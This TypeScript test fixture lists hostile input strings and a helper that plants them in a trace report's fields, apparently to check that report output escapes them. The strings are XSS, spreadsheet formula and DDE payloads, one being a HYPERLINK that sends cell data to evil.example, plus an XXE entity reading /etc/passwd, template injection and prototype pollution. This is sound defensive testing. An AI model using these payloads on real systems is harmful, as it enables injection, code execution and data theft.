import type { Result } from '../../src/result/types.ts';

/** Texts that would do something if a report let them. */
export const hostileTexts: readonly string[] = [
  '</script><script>globalThis.pwned = true</script>',
  '"><img src=x onerror="globalThis.pwned = true">',
  "' onfocus='globalThis.pwned = true' autofocus='",
  '<!--<script>globalThis.pwned = true</script>-->',
  '\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b5A',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  'a,"b"\r\nc,d',
  ']]></failure><testcase name="x"/>',
  '&xxe; %xxe; <!ENTITY xxe SYSTEM "file:///etc/passwd">',
  '](javascript:globalThis.pwned=true) [x](http://evil.example) ![x](http://evil.example/x.png)',
  '```\n# heading\n</details>\n| a | b |\n@someone fixes #1',
  '\u202egnp.exe\u2066\u200b\ufeff',
  'half a pair \ud800 and \udc00',
  'C:\\..\\..\\x?y=z#frag',
  'javascript:globalThis.pwned=true',
  '//evil.example/share',
  '\u2028alert(1)\u2029',
  '\u0000\u0001\u007f',
  '{{constructor.constructor("globalThis.pwned = true")()}}',
  '$&$1$`',
  '__proto__',
];

/** Words that the program chooses, and numbers in text: no trace can put anything else there. */
const OURS: ReadonlySet<string> = new Set([
  'schemaVersion',
  'verdict',
  'answer',
  'via',
  'kind',
  'clock',
  'time',
  'first',
  'last',
  'firstTime',
  'lastTime',
  'severity',
  'mode',
  'evidence',
  'cause',
  'source',
  'iova',
  'size',
  'gpa',
  'start',
  'end',
  'carriedAddress',
  'expectedAddress',
  'bitmapBytes',
  'limitBytes',
  'perm',
  'until',
]);
/** Resolved values: a version is text, the rest is ours. */
const NUMBERS_IN_TEXT = /^0x[0-9a-f]+$/;

/** The same result with every text in it that could come from outside, names of events included, made hostile. */
export function hostile(result: Result, text: string): Result {
  return poisoned(result, '', text) as Result;
}

function poisoned(value: unknown, key: string, text: string): unknown {
  if (typeof value === 'string') {
    const isOurs =
      OURS.has(key) || NUMBERS_IN_TEXT.test(value) || value === 'legacy' || value === 'intel-iommu';
    return isOurs ? value : text;
  }
  if (Array.isArray(value)) return value.map((item) => poisoned(item, key, text));
  if (value === null || typeof value !== 'object') return value;
  const entries = Object.entries(value).map(([name, item]) => {
    const isCounts = key === 'skippedEvents';
    return [isCounts ? text : name, poisoned(item, name, text)] as const;
  });
  return Object.fromEntries(entries);
}
